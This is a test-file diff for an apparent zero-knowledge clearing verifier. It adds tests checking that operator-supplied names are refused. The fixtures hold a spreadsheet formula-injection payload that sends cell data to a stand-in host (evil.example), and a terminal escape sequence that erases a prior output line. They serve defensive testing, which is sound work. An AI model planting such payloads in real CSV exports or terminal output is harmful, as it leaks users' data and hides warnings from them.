@@ -514,3 +514,45 @@ def test_an_account_key_other_than_the_participant_files_is_refused(proven, caps
                   "--participant", deployment.participant_path(account.account_id), "--account-key", "ab" * 32,
                   expect=1, capsys=capsys)
     assert "--account-key" in out and out.strip().count("\n") == 0
+
+
+# -- names the operator chooses, printed to the participant ------------------------------------------------
+
+
+def _verify_epoch_3(deployment, tmp_path, *extra, expect):
+    account = _trader(deployment)
+    return zkclear("verify", deployment.epoch_dir(3), "--receipt", deployment.receipt_path(3, account.account_id),
+                   "--account", account.account_id, *extra, expect=expect)
+
+
+def test_an_instrument_named_as_a_spreadsheet_formula_never_reaches_the_history_csv(proven, tmp_path):
+    """The operator proves epoch 3 with its first instrument renamed to a formula in the risk data: the participant's
+    history CSV, opened in a spreadsheet, would run it. The risk data's names must be the configuration's ids."""
+    deployment = _copy(proven, tmp_path)
+    inputs = deployment.public_inputs(3)
+    honest = deployment.public_data(3, inputs)
+    formula = '=HYPERLINK("https://evil.example/?"&D2,"BTC-PERP")'
+    forged = replace(honest, instruments=(replace(honest.instruments[0], instrument_id=formula),
+                                          *honest.instruments[1:]))
+    _prove_with(deployment, proven, 3, forged, inputs)
+    csv_path = tmp_path / "history.csv"
+    out = _verify_epoch_3(deployment, tmp_path, "--history-csv", csv_path, expect=1)
+    assert "epoch-3.public.json" in out and "instrument id" in out and len(out.strip().splitlines()) == 1
+    assert not csv_path.exists()
+
+
+def test_a_mark_named_with_a_terminal_escape_is_refused_not_printed(proven, tmp_path):
+    """The operator names a mark in the public inputs with an escape sequence that erases the line above on the
+    participant's terminal (where a FAILED line could be): identifiers are printable ASCII."""
+    deployment = _copy(proven, tmp_path)
+    inputs = deployment.public_inputs(3)
+    document = json.loads(inputs.to_bytes())
+    document["derived"]["marks"][0][0] = "BTC-PERP\x1b[1A\x1b[2K"
+
+    class Unchecked(PublicInputs):  # the operator writes the file's bytes itself
+        def to_bytes(self) -> bytes:
+            return json.dumps(self.document, sort_keys=True, separators=(",", ":")).encode("ascii")
+
+    _prove_with(deployment, proven, 3, deployment.public_data(3, inputs), Unchecked(document))
+    out = _verify_epoch_3(deployment, tmp_path, expect=1)
+    assert "\x1b" not in out and "derived.marks[0][0]" in out and "printable ASCII identifier" in out
